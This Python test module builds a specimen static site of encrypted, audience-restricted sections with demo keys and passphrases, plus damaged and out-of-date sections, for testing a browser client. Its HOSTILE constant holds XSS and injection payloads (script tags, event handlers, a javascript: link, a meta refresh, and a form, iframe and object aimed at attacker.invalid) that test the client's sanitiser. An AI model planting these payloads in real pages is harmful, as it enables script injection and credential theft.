"""A small site for the client alone: pages of the contract's shape, sealed for real, without the build.

Every sealed text carries a word of its own, so that a test can look for it.
"""

from __future__ import annotations

import datetime
import hashlib
import html
import json
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, replace
from pathlib import Path

from communique.sealing.keyring import build_keyring
from communique.sealing.keystore import Keystore
from communique.sealing.passphrases import listed_words
from communique.sealing.primitives import Json, cj
from communique.sealing.register import MemberEntry, Register, TierEntry, credentials
from communique.sealing.sealer import Sealer
from communique_pelican.client import START, package_client, path_of, read_scripts

SITE = "psi-portal.example"
STATIC = Path(__file__).parents[3] / "theme" / "static"
POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; "
    "img-src 'self' data: blob:; frame-src 'self'; base-uri 'none'; form-action 'none'; object-src 'none'; "
    "require-trusted-types-for 'script'; trusted-types communique"
)
LABELS = {name: {"en": name} for name in ("partner", "oeg", "core", "state:nz")}
INCLUDED = {"oeg": ("partner",), "core": ("oeg", "partner")}

#: What each member may read on the page meetings/paris, by the word in each part.
PARIS = {
    "partner-01": {"birch", "maple", "spruce"},
    "oeg-01": {"birch", "maple", "spruce", "juniper", "willow", "cedar"},
    "core-01": {"birch", "maple", "spruce", "juniper", "willow", "cedar", "hazel", "rowan"},
    "nz-01": {"kauri", "rimu"},
}
ALL_WORDS = set().union(*PARIS.values())

MESSAGES = {
    "en": {
        "opened": '{"one": "{n} sealed section opened.", "other": "{n} sealed sections opened."}',
        "none": "Nothing here is for you.",
        "wrong": "That does not open anything.",
        "working": "Checking.",
        "insecure": "Not at an unprotected address.",
        "damaged": "This does not open.",
        "newer": "This page is newer than your keys.",
        "older": "This page is older than your keys.",
        "ended": "No access any more.",
        "outdated": "This browser is too old.",
        "word-count": '{"one": "You typed {n} word.", "other": "You typed {n} words."}',
        "word-unknown": '{"one": "Word {numbers} is unknown.", "other": "Words {numbers} are unknown."}',
        "locked": "Locked.",
        "idle": "Locked after 15 minutes.",
        "gone": "Gone: load the page again.",
        "signed-in-as": "Signed in as {name}",
        "language": "This part is in {language}.",
    },
    "es": {
        "opened": '{"one": "{n} parte abierta.", "other": "{n} partes abiertas."}',
        "none": "Nada aquí es para usted.",
        "wrong": "Eso no abre nada.",
        "working": "Comprobando.",
        "insecure": "No en una dirección sin protección.",
        "damaged": "Esto no se abre.",
        "newer": "Esta página es más nueva que sus claves.",
        "older": "Esta página es más antigua que sus claves.",
        "ended": "Ya no hay acceso.",
        "outdated": "Este navegador es demasiado antiguo.",
        "word-count": '{"one": "Ha escrito {n} palabra.", "other": "Ha escrito {n} palabras."}',
        "word-unknown": '{"one": "La palabra {numbers} no consta.", "other": "Las palabras {numbers} no constan."}',
        "locked": "Cerrado.",
        "idle": "Cerrado tras 15 minutos.",
        "gone": "No está: vuelva a cargar la página.",
        "signed-in-as": "Sesión de {name}",
        "language": "Esta parte está en {language}.",
    },
}


@dataclass(frozen=True)
class Part:
    """A sealed part as the lead's build would hand it to the templates."""

    name: str
    form: str
    audience: tuple[str, ...]
    html: str
    numbers: tuple[int, ...] = ()
    columns: int = 2
    on_page_as: str = ""


@dataclass(frozen=True)
class Specimen:
    """The written site and who may sign in to it."""

    folder: Path
    passphrases: Mapping[str, str]


def paris_parts(lang: str) -> dict[str, Part]:
    """One part of every form, and two nests: tiers in a tier, an area in a tier."""
    elsewhere = "../../statements/chair/index.html"
    listed = [
        Part(
            "s1",
            "block",
            ("oeg",),
            f'<p id="p3">juniper {lang}</p><p id="p4">See <a href="{elsewhere}#p1">ours</a>.</p>',
            (3, 4),
        ),
        Part("s2", "inline", ("partner",), "<em>birch</em> words"),
        Part("s3", "item", ("core",), "hazel item"),
        Part("s4", "row", ("oeg",), "<td>willow</td><td>2</td>"),
        Part(
            "s5",
            "block",
            ("partner",),
            '<p id="p5">maple <span data-cq-place="s8"></span></p><div data-cq-place="s6"></div>'
            '<div data-cq-place="s7"></div><table><tbody><tr><td>spruce</td><td>1</td></tr>'
            '<tr data-cq-place="s9"><td></td><td></td></tr></tbody></table>',
            (5, 6, 7),
        ),
        Part("s6", "block", ("core",), '<p id="p6">rowan</p>', (6,)),
        Part("s7", "block", ("state:nz",), '<p id="p7">kauri</p>', (7,)),
        Part("s8", "inline", ("oeg",), "cedar", on_page_as="block"),
        Part("s9", "row", ("state:nz",), "<td>rimu</td><td>9</td>", on_page_as="block"),
    ]
    return {part.name: part for part in listed}


HOSTILE = (
    '<p id="p2">yew</p>'
    '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">'
    "<script>window.breached = 1</script><svg><script>window.breached = 2</script></svg>"
    '<p onclick="window.breached = 3" style="color: red" id="cq-messages">handlers</p>'
    '<a id="bad-link" href=" java&#10;script:window.breached=4">link</a>'
    '<img src="https://attacker.invalid/pixel.png" onerror="window.breached = 5">'
    '<img src="x" onerror="window.breached = 6">'
    '<iframe src="https://attacker.invalid/"></iframe><base href="https://attacker.invalid/">'
    '<form action="https://attacker.invalid/"><input name="login"><button>send</button></form>'
    '<link rel="stylesheet" href="https://attacker.invalid/x.css"><style>body { display: none }</style>'
    '<object data="https://attacker.invalid/"></object>'
    '<math><mtext><img src=x onerror="window.breached=7"></mtext></math>'
    "<template><img src=x onerror='window.breached=8'></template>"
    '<details open ontoggle="window.breached=9"><summary>kept</summary>words</details>'
    "<unknown-element>kept words</unknown-element>"
)


def keystore_and_register() -> tuple[Keystore, Register]:
    granted = {"partner-01": "partner", "oeg-01": "oeg", "core-01": "core", "nz-01": "state:nz"}
    # The last one is still in the keyring, and nothing is shared with them any more.
    grants: dict[str, dict[str, int]] = {**{login: {grant: 1} for login, grant in granted.items()}, "mx-01": {}}
    names = ("partner", "oeg", "core", "state:nz")
    register = Register(
        site=SITE,
        salt=bytes(range(16)),
        epoch=1,
        release=1,
        date=datetime.date(2008, 11, 3),
        signing=1,
        demo=True,
        tiers={name: TierEntry(name, 4 if name == "partner" else 1) for name in names},
        members={login: MemberEntry(login, "en", "en", 9, 1, grants[login]) for login in grants},
    )
    return Keystore(SITE, bytes(range(32)), demo=True), register


def closure(grants: Iterable[str]) -> set[str]:
    held = set(grants)
    return held.union(*(INCLUDED.get(grant, ()) for grant in held))


def write_specimen(folder: Path) -> Specimen:
    """Writes the site into `folder`."""
    keystore, register = keystore_and_register()
    writer = _Writer(folder, Sealer(keystore, register), package_client(read_scripts(STATIC)))
    writer.write_shared(build_keyring(keystore, register, LABELS, closure))
    for lang in ("en", "es"):
        writer.write_paris(lang)
        writer.page(
            lang,
            "statements/chair",
            f"Chair {lang}",
            _filler(1, 40)
            + writer.box(
                Part("s1", "block", ("partner",), f'<p id="p41">elm {lang} statement</p>', (41,)),
                "statements/chair",
                lang,
            ),
        )
        writer.page(lang, "about/portal", f"About {lang}", _filler(1, 3))
        writer.page(lang, "", f"Home {lang}", "<p>All documents.</p>")
    chair = "plans/model"
    in_english = writer.box(Part("s1", "block", ("partner",), "<p>larch plan</p>"), chair, "en")
    writer.page("en", chair, "Plan en", in_english)
    writer.page("es", chair, "Plan es", in_english)
    hostile = writer.box(Part("s1", "block", ("partner",), HOSTILE), "about/hostile", "en")
    writer.page("en", "about/hostile", "Hostile en", "<p>public</p>" + hostile)
    writer.write_damaged()
    writer.write_ages(keystore, register)
    return Specimen(folder, {c.login: c.passphrase for c in credentials(keystore, register)})


def write_many_sections(folder: Path, count: int) -> Specimen:
    """Writes a site of which the page about/many holds `count` sealed sections, for measuring."""
    keystore, register = keystore_and_register()
    writer = _Writer(folder, Sealer(keystore, register), package_client(read_scripts(STATIC)))
    writer.write_shared(build_keyring(keystore, register, LABELS, closure))
    words = "Sealed words of a paragraph that is as long as such paragraphs are. " * 8
    parts = [Part(f"s{n}", "block", ("partner",), f'<p id="p{n}">{n}. {words}</p>') for n in range(1, count + 1)]
    writer.page("en", "about/many", "Many en", "".join(writer.box(part, "about/many", "en") for part in parts))
    return Specimen(folder, {c.login: c.passphrase for c in credentials(keystore, register)})


def _filler(first: int, last: int) -> str:
    words = "Plain public words of a paragraph. " * 12
    return "".join(f'<p id="p{number}">{number}. {words}</p>' for number in range(first, last + 1))


@dataclass(frozen=True)
class _Writer:
    folder: Path
    sealer: Sealer
    #: As it ships, not as it is written.
    client: Mapping[str, bytes]

    def write_shared(self, keyring: str) -> None:
        (self.folder / "theme" / "js").mkdir(parents=True)
        for part, data in self.client.items():
            (self.folder / path_of(part, data)).write_bytes(data)
        (self.folder / "site.css").write_text(
            "body { margin: 0 1rem; max-width: 40rem }\n[hidden] { display: none !important }\n"
        )
        texts = {"keyring": keyring, "words": cj({"v": 1, "words": " ".join(listed_words())})}
        names: dict[str, Json] = {}
        (self.folder / "sealed").mkdir()
        for id_, text in texts.items():
            line = f"CQ1_DATA({json.dumps(id_)},{json.dumps(text)});\n"
            name = f"sealed/{id_}.{hashlib.sha256(line.encode()).hexdigest()[:16]}.js"
            names[id_] = name
            (self.folder / name).write_text(line)
        told: dict[str, Json] = {
            "data": names,
            "date": "2008-11-03",
            "demo": True,
            "release": 1,
            "site": SITE,
            "v": 1,
        }
        (self.folder / "release.js").write_text(f"CQ1_DATA({json.dumps('release')},{json.dumps(cj(told))});\n")

    def box(self, part: Part, doc: str, lang: str, *, text: str = "") -> str:
        sealed = text or self.sealer.seal_section(doc, lang, part.name, part.audience, {"title": "T"}, part.html)
        shape = part.on_page_as or part.form
        tag = {"block": "div", "inline": "span", "item": "span", "row": "tr"}[shape]
        mark, closed = ("p", "div") if shape == "block" else ("span", "span")
        anchors = "".join(f'<span id="p{number}">{number}</span> ' for number in part.numbers)
        inside = (
            f'<{mark} class="sealed__mark" lang="en">TLP:AMBER</{mark}>'
            f'<{closed} class="sealed__closed">Closed. {anchors}</{closed}>'
            f'<script type="application/jose+json" data-cq="{part.name}">{sealed}</script>'
        )
        if shape == "row":
            inside = f"<td>{inside}</td>" + "<td></td>" * (part.columns - 1)
        tids = " ".join(self.sealer.tids(part.audience))
        return (
            f'<{tag} class="sealed sealed--{shape}" id="{part.name}" data-cq-part="{part.name}" '
            f'data-cq-form="{part.form}" data-cq-aud="{tids}" data-cq-lang="{lang}">{inside}</{tag}>'
        )

    def write_paris(self, lang: str) -> None:
        parts = paris_parts(lang)
        doc = "meetings/paris"
        box = {name: self.box(part, doc, lang) for name, part in parts.items()}
        self.page(
            lang,
            doc,
            f"Paris {lang}",
            f'<p id="p1">Public {lang}. Inline: {box["s2"]}.</p>{_filler(2, 2)}{box["s1"]}'
            f"<ul><li>one</li><li>{box['s3']}</li></ul>"
            f"<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>x</td><td>y</td></tr>{box['s4']}</tbody></table>"
            + "".join(box[name] for name in ("s5", "s6", "s7", "s8", "s9"))
            + _filler(8, 40),
        )

    def write_ages(self, keystore: Keystore, register: Register) -> None:
        """A page of which one part is older than the oldest key in any slot, and one newer than the newest."""
        doc, boxes = "about/ages", ""
        for name, generation in (("s1", 1), ("s2", 4), ("s3", 5)):
            tiers = {**register.tiers, "partner": TierEntry("partner", generation)}
            sealer = Sealer(keystore, replace(register, tiers=tiers))
            text = sealer.seal_section(doc, "en", name, ("partner",), {"title": "T"}, f"<p>age {generation}</p>")
            boxes += self.box(Part(name, "block", ("partner",), ""), doc, "en", text=text)
        self.page("en", doc, "Ages en", boxes)

    def write_damaged(self) -> None:
        doc = "about/damaged"
        part = Part("s1", "block", ("partner",), "<p>alder</p>")
        good = self.sealer.seal_section(doc, "en", "s1", part.audience, {"title": "T"}, part.html)
        told = json.loads(good)
        flipped = "A" if told["ciphertext"][10] != "A" else "B"
        told["ciphertext"] = told["ciphertext"][:10] + flipped + told["ciphertext"][11:]
        moved = self.sealer.seal_section("about/elsewhere", "en", "s2", part.audience, {"title": "T"}, part.html)
        sound = Part("s3", "block", ("partner",), "<p>aspen</p>")
        self.page(
            "en",
            doc,
            "Damaged en",
            self.box(part, doc, "en", text=cj(told))
            + self.box(Part("s2", "block", ("partner",), ""), doc, "en", text=moved)
            + self.box(sound, doc, "en"),
        )

    def page(self, lang: str, doc: str, title: str, main: str) -> None:
        path = f"{lang}/{doc}/index.html" if doc else f"{lang}/index.html"
        up = "../" * path.count("/")
        other = "es" if lang == "en" else "en"
        data = " ".join(f"data-msg-{name}='{html.escape(text)}'" for name, text in MESSAGES[lang].items())
        links = {
            "home": "",
            "paris": "meetings/paris",
            "chair": "statements/chair",
            "plan": "plans/model",
            "about": "about/portal",
        }
        nav = "".join(
            f'<a id="to-{name}" href="{up}{lang}/{target + "/" if target else ""}index.html">{name}</a> '
            for name, target in links.items()
        )
        scripts = f'<script defer src="{up}{path_of(START, self.client[START])}"></script>\n'
        across = up + path.replace(lang + "/", other + "/", 1)
        about = f'data-site="{SITE}" data-root="{up}" data-path="{path}" data-doc="{doc}" data-lang="{lang}"'
        target = self.folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(
            f"""<!DOCTYPE html>
<html lang="{lang}" dir="ltr" {about} data-original="en">
<head>
<meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="{POLICY}">
<title>{title}</title>
<link rel="stylesheet" href="{up}site.css">
<link rel="icon" href="data:,">
<link rel="alternate" hreflang="{other}" href="https://{SITE}/{path.replace(lang + "/", other + "/", 1)}">
{scripts}</head>
<body class="page">
<a href="#main">Skip</a>
<div id="cq-status" role="status" aria-live="polite"></div>
<header>{nav}
<a id="external" href="https://elsewhere.invalid/">elsewhere</a>
<a id="letter" href="mailto:a@b.invalid">letter</a>
<nav data-cq-languages><a id="to-other" href="{across}" hreflang="{other}">{other}</a></nav>
<button type="button" data-cq-sign-in hidden>Sign in</button>
<button type="button" data-cq-lock hidden>Lock</button>
<span data-cq-member hidden></span></header>
<main id="main" tabindex="-1"><h1>{title}</h1>
{main}
</main>
<footer>TLP:AMBER</footer>
<dialog id="cq-sign-in" aria-labelledby="cq-title"><form method="dialog"><h2 id="cq-title">Sign in</h2>
<input name="login" autocomplete="username" aria-label="Login" required>
<input name="passphrase" type="password" autocomplete="current-password" aria-label="Passphrase" required>
<label><input type="checkbox" data-cq-show-passphrase> Show</label>
<p data-cq-working role="status"></p><p data-cq-error role="alert"></p>
<p data-cq-hint role="status"></p><p data-cq-if-refused hidden>Ask.</p>
<div data-cq-remedies hidden><a data-cq-protected></a></div>
<button type="submit">Open</button><button type="button" data-cq-cancel>Cancel</button></form></dialog>
<dialog id="cq-idle" role="alertdialog" aria-labelledby="cq-idle-title" aria-describedby="cq-idle-text">
<h2 id="cq-idle-title">Still there?</h2><p id="cq-idle-text">It locks within a minute.</p>
<button type="button">Stay</button></dialog>
<div id="cq-messages" hidden {data}></div>
</body>
</html>
""",
            encoding="utf-8",
        )
